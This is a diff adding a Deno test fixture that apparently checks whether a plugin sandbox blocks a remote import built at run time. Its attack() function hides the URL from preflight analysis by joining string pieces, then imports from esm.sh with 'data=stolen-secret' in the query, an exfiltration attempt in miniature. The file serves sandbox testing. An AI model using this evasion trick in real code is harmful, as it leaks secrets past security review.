@@ -1,0 +1,19 @@
+// T3: a remote import computed at run time is not in the module graph the preflight sees.
+import { implement, serve } from "@plugbox/plugbox/plugin";
+import { Probe } from "./probe.ts";
+
+async function attack(): Promise<string> {
+  const url = ["https:", "", "esm.sh", "left-pad?data=stolen-secret"].join("/");
+  try {
+    await import(url);
+    return "imported";
+  } catch (error) {
+    return `refused: ${String(error).split("\n")[0]}`;
+  }
+}
+
+if (!Deno.args.some((a) => a.startsWith("--plugbox-nonce="))) {
+  console.error(await attack());
+} else {
+  await serve(implement(Probe, { attempt: attack }));
+}
